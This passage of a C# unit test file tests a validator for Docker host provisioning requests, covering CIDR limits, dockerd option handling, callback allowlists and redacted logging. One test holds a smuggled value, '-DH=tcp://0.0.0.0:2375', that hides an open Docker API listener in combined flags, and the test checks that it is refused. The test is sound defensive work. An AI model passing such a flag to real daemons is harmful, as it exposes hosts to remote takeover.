    [InlineData("10.0.0.0/8", "10.0.0.0/8", "10.255.255.255")]
    public void Validate_OverlappingNetworksUpToOneSlash8_AreAccepted(params string[] cidrs)
    {
        var result = CreateValidator().Validate(Valid with { AllowedSourceCidrs = cidrs });

        Assert.True(result.IsValid, string.Join("; ", result.Errors));
    }

    [Fact]
    public void Validate_OneAddressMoreThanASlash8_RefusedNamingTheCount()
    {
        var result = CreateValidator().Validate(Valid with { AllowedSourceCidrs = ["10.0.0.0/8", "11.0.0.0/32"] });

        var error = Assert.Single(result.Errors);
        Assert.Equal(("allowedSourceCidrs", "cidr-too-broad"), (error.Field, error.Rule));
        Assert.Contains("16,777,217", error.Message, StringComparison.Ordinal);
        Assert.Contains("allowAnySource", error.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void Validate_EmptyDaemonOptions_AreTheHardenedDefaults()
    {
        var result = CreateValidator().Validate(Valid with { DaemonOptions = [] });

        Assert.True(result.IsValid, string.Join("; ", result.Errors));
        Assert.Equal(ProvisionRequestValidator.DefaultDaemonOptions, result.Value.DaemonOptions);
    }

    [Fact]
    public void Validate_DaemonOptionsInEveryDockerdSpelling_AreRenderedCanonicallyAfterTheDefaults()
    {
        var result = CreateValidator().Validate(Valid with
        {
            DaemonOptions =
            [
                "-Dl", "warn", "--max-concurrent-downloads", "5", "-s=overlay2", "--log-opt", "max-size=10m", "--log-opt=max-file=3",
                "--experimental=false", "-lwarn", "--dns=1.1.1.1", "--dns", "1.0.0.1", "--userland-proxy=0",
            ],
        });

        Assert.True(result.IsValid, string.Join("; ", result.Errors));
        Assert.Equal(
            [
                .. ProvisionRequestValidator.DefaultDaemonOptions,
                "--debug", "--log-level=warn", "--max-concurrent-downloads=5", "--storage-driver=overlay2", "--log-opt=max-size=10m",
                "--log-opt=max-file=3", "--experimental=false", "--dns=1.1.1.1", "--dns=1.0.0.1", "--userland-proxy=false",
            ],
            result.Value.DaemonOptions);
    }

    [Theory]
    [InlineData("--debug")]
    [InlineData("-D")]
    [InlineData("--debug=false")]
    [InlineData("-D=false")]
    [InlineData("--log-level=debug")]
    [InlineData("-l=error")]
    [InlineData("-lfatal")]
    [InlineData("--log-level", "info")]
    [InlineData("-l", "warn")]
    [InlineData("--log-format=json")]
    [InlineData("--raw-logs")]
    [InlineData("--log-driver=journald")]
    [InlineData("--log-driver=local")]
    [InlineData("--log-opt=max-size=10m")]
    [InlineData("--log-opt=mode=non-blocking")]
    [InlineData("--default-ulimit=nofile=1024:2048")]
    [InlineData("--default-ulimit=memlock=-1:-1")]
    [InlineData("--default-ulimit=nproc=512")]
    [InlineData("--max-concurrent-downloads=10")]
    [InlineData("--max-concurrent-uploads=3")]
    [InlineData("--max-download-attempts=5")]
    [InlineData("--shutdown-timeout=30")]
    [InlineData("--registry-mirror=https://mirror.gcr.io")]
    [InlineData("--registry-mirror=https://10.0.0.4:5000/")]
    [InlineData("--storage-driver=overlay2")]
    [InlineData("-s", "btrfs")]
    [InlineData("--experimental")]
    [InlineData("--mtu=1450")]
    [InlineData("--dns=1.1.1.1")]
    [InlineData("--dns=2606:4700:4700::1111")]
    [InlineData("--dns-search=corp.example.com")]
    [InlineData("--dns-opt=ndots:2")]
    [InlineData("--label=env=dev")]
    [InlineData("--default-address-pool=base=172.80.0.0/16,size=24")]
    [InlineData("--bip=172.26.0.1/16")]
    [InlineData("--fixed-cidr=172.26.0.0/24")]
    [InlineData("--ip=127.0.0.1")]
    [InlineData("--userland-proxy=false")]
    [InlineData("--init")]
    [InlineData("--default-shm-size=128m")]
    [InlineData("--default-ipc-mode=private")]
    [InlineData("--exec-opt=native.cgroupdriver=systemd")]
    [InlineData("--debug", "--debug")]
    public void Validate_AllowedDaemonOption_IsAccepted(params string[] options)
    {
        var result = CreateValidator().Validate(Valid with { DaemonOptions = options });

        Assert.True(result.IsValid, string.Join("; ", result.Errors));
    }

    [Fact]
    public void Validate_CombinedShortFlagsHidingAListener_NameTheHostFlagAndTheRule()
    {
        var result = CreateValidator().Validate(Valid with { DaemonOptions = ["--log-level=warn", "-DH=tcp://0.0.0.0:2375"] });

        var error = Assert.Single(result.Errors);
        Assert.Equal(("daemonOptions[1]", "daemon-option-forbidden"), (error.Field, error.Rule));
        Assert.Contains("'-H' (--host)", error.Message, StringComparison.Ordinal);
        Assert.Contains("--tlsverify", error.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void Validate_RefusedDaemonOptionValue_MessageDoesNotEchoTheValue()
    {
        var result = CreateValidator().Validate(Valid with { DaemonOptions = ["--log-opt=splunk-token=S3cr3tT0ken", "--log-level=S3cr3tLevel"] });

        Assert.Equal(2, result.Errors.Count);
        Assert.All(result.Errors, e => Assert.DoesNotContain("S3cr3t", e.Message, StringComparison.Ordinal));
    }

    [Theory]
    [InlineData(DockerInstaller.CustomScript)]
    [InlineData(DockerInstaller.DockerExtension)]
    public void Validate_DaemonOptions_WhatReachesDockerdIsWhatWasValidated(DockerInstaller installer)
    {
        var spec = CreateValidator().Validate(Valid with { Installer = installer, DaemonOptions = ["-Dl", "warn", "--log-opt", "max-size=10m"] }).Value!;
        string[] expected = [.. ProvisionRequestValidator.DefaultDaemonOptions, "--debug", "--log-level=warn", "--log-opt=max-size=10m"];

        if (installer == DockerInstaller.CustomScript)
        {
            var script = DockerInstallMaterial.BuildInstallScript("ca", "cert", "key", spec.DockerPort, spec.DaemonOptions);
            var execStart = script.Split('\n').Last(l => l.StartsWith("ExecStart=${dockerd}", StringComparison.Ordinal));
            Assert.EndsWith($" -H tcp://0.0.0.0:{spec.DockerPort} {string.Join(' ', expected)}", execStart, StringComparison.Ordinal);
        }
        else
        {
            using var settings = System.Text.Json.JsonDocument.Parse(DockerInstallMaterial.DockerExtensionSettings(spec.DockerPort, spec.DaemonOptions, "AzureCloud").ToString());
            Assert.Equal(expected, settings.RootElement.GetProperty("docker").GetProperty("options").EnumerateArray().Select(o => o.GetString()));
        }
    }

    [Theory]
    [InlineData("http://localhost:7071/api/hook", "localhost")]
    [InlineData("http://127.0.0.1:9000/hook", "127.0.0.1")]
    [InlineData("https://[::1]:9000/hook", "::1")]
    public void Validate_LoopbackCallbackInLocalModeAllowlist_IsAccepted(string url, string allowed)
    {
        var result = CreateValidator(allowed).Validate(Valid with { Callback = new CallbackRequest { Url = new Uri(url) } });

        Assert.True(result.IsValid, string.Join("; ", result.Errors));
    }

    [Fact]
    public void Validate_Rejected_LogsRuleIdsButNoCallerData()
    {
        var logger = new FakeLogger<ProvisionRequestValidator>();
        var options = new CallbackOptions();
        var validator = new ProvisionRequestValidator(Options.Create(options), logger);

        validator.Validate(Valid with { SshPublicKey = "-----BEGIN OPENSSH PRIVATE KEY-----\nabc\n-----END OPENSSH PRIVATE KEY-----", Callback = null });

        var record = Assert.Single(logger.Collector.GetSnapshot());
        Assert.Equal(1000, record.Id.Id);
        Assert.Contains("ssh-key-private-key", record.Message, StringComparison.Ordinal);
        Assert.DoesNotContain("PRIVATE KEY", record.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void TryValidate_InvalidRequest_ReturnsFalseWithErrors()
    {
        var ok = CreateValidator().TryValidate(Valid with { Name = null }, out var spec, out var errors);

        Assert.False(ok);
        Assert.Null(spec);
        Assert.Equal("name", Assert.Single(errors).Field);
    }
}
